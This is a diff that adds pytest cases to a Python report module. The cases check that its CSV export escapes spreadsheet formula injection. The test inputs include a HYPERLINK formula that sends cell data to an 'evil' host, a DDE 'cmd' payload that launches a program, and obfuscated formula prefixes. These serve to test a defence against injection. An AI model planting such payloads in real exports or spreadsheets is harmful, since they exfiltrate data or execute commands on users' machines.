@@ -5,6 +5,8 @@ from __future__ import annotations
 import csv
 import io
 
+import pytest
+
 from farm.judging.verdict import Outcome, Reason
 from farm.reports.figures import figures
 from farm.reports.formats import as_csv, as_latex, as_markdown
@@ -70,6 +72,49 @@ def test_csv_has_plain_numbers_and_reads_back() -> None:
     ]
     two = list(csv.reader(io.StringIO(as_csv([TABLE, TABLE]))))
     assert [row for row in two if row == [TABLE.title]] == [[TABLE.title]] * 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *(
+            '=HYPERLINK("http://evil/"&A1,"x")',
+            "=cmd|' /C calc'!A0",
+            "-2+3",
+            "+1",
+            "@SUM(1)",
+            "=1+2",
+            "=",
+            "-",
+        ),
+        *(
+            "\t=1",
+            "\r=1",
+            "\n=1",
+            " =1",
+            "\ufeff=1",
+            "\0=1",
+            "＝1+2",
+            "－2",
+            "\t x",
+            "-2",
+            "-1 -2 -3",
+            "-1 1+1",
+        ),
+    ],
+)
+def test_no_cell_of_csv_is_a_formula(text: str) -> None:
+    table = Table(
+        word="t", title=text, names=1, columns=(text, "n"), rows=((Cell(text, text), Cell(-2.5, "")),)
+    )
+    rows = [row for row in csv.reader(io.StringIO(as_csv([table, table]), newline="")) if row]
+    assert rows == [[f"'{text}"], [f"'{text}", "n"], [f"'{text}", "-2.5"]] * 2
+
+
+@pytest.mark.parametrize("text", ["a=b", "'=1", "x-1", "0.1 0.2", "-0.05 1e-05", "", " x", "nat_add-1"])
+def test_other_texts_stay_what_they_are_in_csv(text: str) -> None:
+    table = Table(word="t", title="t", names=1, columns=("a",), rows=((Cell(text, text),),))
+    assert list(csv.reader(io.StringIO(as_csv([table])))) == [["a"], [text]]
 
 
 def test_markdown_keeps_cells_apart() -> None:
